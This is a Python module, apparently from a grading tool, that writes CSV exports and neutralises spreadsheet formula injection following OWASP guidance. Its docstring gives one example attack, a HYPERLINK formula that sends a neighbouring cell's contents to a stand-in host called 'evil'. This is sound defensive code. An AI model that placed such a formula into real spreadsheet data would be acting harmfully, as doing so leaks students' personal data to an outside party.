"""Every CSV the grader writes (grades.csv, each LMS export) is made here, one cell at a time.

Names as handed in, roster fields and the cells of a Moodle site's worksheet are text anyone may
have chosen, and a spreadsheet runs a cell that begins with a formula character
(``=HYPERLINK("https://evil/?"&C2,"x")`` sends the next cell away when clicked). As OWASP's
CSV-injection guidance says, a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading single quote and is written inside double quotes: Excel, LibreOffice and
Google Sheets then show it as text.
"""
from __future__ import annotations

import re
from typing import Iterable

# OWASP's list, and a line feed: grader.text.clean turns a carriage return into one.
_FORMULA_START = frozenset("=+-@\t\r\n")
# A decimal number alone (an optional sign, ASCII digits, a point, an exponent after digits) is a value
# in every spreadsheet, never a formula, so it is left as it is: the grader's own figures (a penalty, a
# negative score) must reach an LMS importer as numbers, and the sign alone (a Moodle worksheet's "-"
# for "no date") has nothing after it to compute. The test is on the text, not on who wrote it: a
# student named "-5" shows as the number -5, which runs nothing either. "-e5" is not a number here
# (it is a reference to cell E5), nor is any other text: those are neutralised.
_NUMBER = re.compile(r"[-+]?(?:(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?)?")
_SPECIAL = re.compile(r'[,"\r\n]')   # what csv.QUOTE_MINIMAL quotes for


def cell(value: object, quote: bool = False) -> str:
    """``value`` as one CSV field: neutralised and quoted when it begins with a formula character and
    is not a number; quoted when it holds a comma, a double quote or a line break, or when ``quote``."""
    text = "" if value is None else str(value)
    risky = text[:1] in _FORMULA_START and not _NUMBER.fullmatch(text)
    if risky:
        text = "'" + text
    if quote or risky or _SPECIAL.search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


def table(rows: Iterable[Iterable[object]], quote_all: bool = False) -> str:
    """Rows as CSV text (RFC 4180: commas, CRLF line ends), every cell through ``cell``."""
    return "".join(",".join(cell(v, quote_all) for v in row) + "\r\n" for row in rows)
